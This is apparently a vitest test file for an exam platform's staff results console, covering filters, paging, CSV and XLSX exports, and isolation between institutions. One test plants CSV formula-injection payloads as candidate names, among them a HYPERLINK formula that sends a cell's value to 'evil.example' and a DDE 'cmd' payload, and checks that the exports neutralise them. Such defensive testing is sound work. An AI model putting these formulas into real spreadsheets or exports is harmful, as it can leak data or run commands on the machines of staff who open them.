// Staff console results: one row per order of the institution's members with filters, sorting and
// paging; the CSV and XLSX exports (content read back with csv-parse and exceljs); operators'
// ?institution; another institution's admin gets 404 and never sees these rows.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ResultRow } from '../../../contracts/admin-results.ts';
import { RESULT_EXPORT_HEADERS } from '../../../contracts/facts/index.ts';
import { users } from '../../db/schema/index.ts';
import { seedResultRows } from '../../../tests/server-helpers/result-rows.ts';
import { otherInstitutionAdmin, proctorToken, staffCall, staffToken } from '../../../tests/server-helpers/staff.ts';
import { buildTestApp, type TestApp } from '../../../tests/server-helpers/test-app.ts';

let t: TestApp;
let admin: string;
let other: { institutionId: string; token: string };
beforeAll(async () => {
  t = await buildTestApp({ seed: true, now: '2026-03-07T01:00:00Z' });
  admin = await staffToken(t, 'admin.lembaga@epot.local');
  other = await otherInstitutionAdmin(t);
  const base = { companyId: t.seed!.companyId, productId: t.seed!.productId, now: t.clock.now() };
  await seedResultRows(t.db, { ...base, institutionId: t.seed!.institutionId, count: 40, prefix: 'demo' });
  await seedResultRows(t.db, { ...base, institutionId: other.institutionId, count: 5, prefix: 'lain' });
});
afterAll(async () => { await t?.cleanup(); });

type Page = { list: ResultRow[]; total: number; page: number; limit: number };
const results = async (query: string, token = admin) => (await staffCall(t, { url: `/results?search=hasil-&${query}`, token })).body.data as Page;

describe('results list', () => {
  it('shows every order of the members, any status, with scores, labels and violation counts', async () => {
    const all = await results('limit=100');
    expect(all.total).toBe(40);
    expect(new Set(all.list.map((r) => r.status_label))).toEqual(new Set(['Belum mulai', 'Berlangsung', 'Selesai', 'Gugur']));
    const done = await results('status=completed&sort=order_no&order=asc');
    expect(done.total).toBe(10);
    expect(done.list[0]).toMatchObject({ order_no: 'EPOT-HSL-demo-00002', status: 'completed', status_label: 'Selesai', email: 'hasil-demo-2@sekolah.id', violations: { open_new_tab: 2, face: 0, speech: 0 } });
    expect(done.list[0]!.total).toBeGreaterThan(300);
    expect(done.list[0]!.level).toBeTruthy();
    const notStarted = await results('status=not_started');
    expect(notStarted.list.every((r) => r.total === null && r.started_at === null)).toBe(true);
  });
  it('sorts, pages, searches and filters by date (WIB days)', async () => {
    const page2 = await results('sort=fullname&order=asc&limit=7&page=2');
    expect(page2.list.map((r) => r.member_name)).toEqual(Array.from({ length: 7 }, (_, k) => `Peserta demo ${String(7 + k).padStart(5, '0')}`));
    const desc = await results('sort=order_no&order=desc&limit=1');
    expect(desc.list[0]!.order_no).toBe('EPOT-HSL-demo-00039');
    const one = (await staffCall(t, { url: `/results?search=${encodeURIComponent('peserta DEMO 00017')}`, token: admin })).body.data as Page;
    expect(one.list.map((r) => r.email)).toEqual(['hasil-demo-17@sekolah.id']);
    expect((await results('from=2026-03-07&to=2026-03-07')).total).toBe(40);
    expect((await results('from=2026-03-08')).total).toBe(0);
    expect((await staffCall(t, { url: '/results?status=lulus', token: admin })).code).toBe(400);
  });
  it('lets an operator pick an institution and a proctor read', async () => {
    const operator = await staffToken(t, 'operator@epot.local');
    expect((await results(`institution=${other.institutionId}`, operator)).total).toBe(5);
    expect((await results('limit=100', operator)).total).toBe(45);
    expect((await results('', await proctorToken(t, t.seed!.institutionId))).total).toBe(40);
  });
});

describe('exports', () => {
  it('streams a CSV (UTF-8 BOM, header row) of the filtered rows', async () => {
    const r = await staffCall(t, { url: '/results.csv?search=hasil-demo&sort=order_no&order=asc', token: admin });
    expect(r.code).toBe(200);
    expect(r.raw.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.raw.headers['content-disposition']).toBe('attachment; filename="hasil-epot-20260307.csv"');
    expect(r.raw.body.startsWith('\uFEFF')).toBe(true);
    const rows: string[][] = parse(r.raw.body, { bom: true });
    expect(rows[0]).toEqual([...RESULT_EXPORT_HEADERS]);
    expect(rows).toHaveLength(41);
    expect(rows[3]).toEqual(['Peserta demo 00002', 'hasil-demo-2@sekolah.id', 'EPOT-HSL-demo-00002', 'Selesai', expect.stringMatching(/^\d+$/), expect.stringMatching(/^\d+$/),
      expect.stringMatching(/^\d+$/), expect.stringMatching(/^\d+$/), expect.any(String), expect.any(String), '2', '0', '0',
      '2026-03-07 08:02', '2026-03-07 08:02', '2026-03-07 08:02', '', '']);
  });
  it('streams an XLSX with the same rows', async () => {
    const r = await staffCall(t, { url: '/results.xlsx?status=disqualified&search=hasil-demo&sort=order_no&order=asc', token: admin });
    expect(r.code).toBe(200);
    expect(r.raw.headers['content-type']).toMatch(/spreadsheetml/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.raw.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Hasil')!;
    expect(sheet.rowCount).toBe(11);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([...RESULT_EXPORT_HEADERS]);
    expect((sheet.getRow(2).values as unknown[]).slice(1, 5)).toEqual(['Peserta demo 00003', 'hasil-demo-3@sekolah.id', 'EPOT-HSL-demo-00003', 'Gugur']);
  });
  // Issue 29 item 12: a name is the candidate's own input; Excel must show it, never run it.
  it('neutralises formula-leading names in the CSV and keeps them text in the XLSX', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&B2,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
    for (const [k, name] of evil.entries()) await t.db.update(users).set({ fullname: name }).where(eq(users.email, `hasil-demo-${k}@sekolah.id`));
    const csv = await staffCall(t, { url: '/results.csv?search=hasil-demo&sort=order_no&order=asc', token: admin });
    const names = (parse(csv.raw.body, { bom: true }) as string[][]).slice(1, 5).map((r) => r[0]);
    expect(names).toEqual(evil.map((n) => `'${n}`));
    const x = await staffCall(t, { url: '/results.xlsx?search=hasil-demo&sort=order_no&order=asc', token: admin });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(x.raw.rawPayload as unknown as ArrayBuffer);
    const cells = [2, 3, 4, 5].map((row) => wb.getWorksheet('Hasil')!.getRow(row).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(evil.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual(evil);
  });
});

describe('scope', () => {
  it("answers 404 to another institution's admin for the list and both exports of this institution", async () => {
    for (const path of ['/results', '/results.csv', '/results.xlsx']) {
      const r = await staffCall(t, { url: `${path}?institution=${t.seed!.institutionId}`, token: other.token });
      expect(r.code, path).toBe(404);
    }
    const own = await staffCall(t, { url: '/results.csv', token: other.token });
    expect(own.raw.body).not.toContain('hasil-demo');
    expect(parse(own.raw.body, { bom: true })).toHaveLength(6);
  });
});
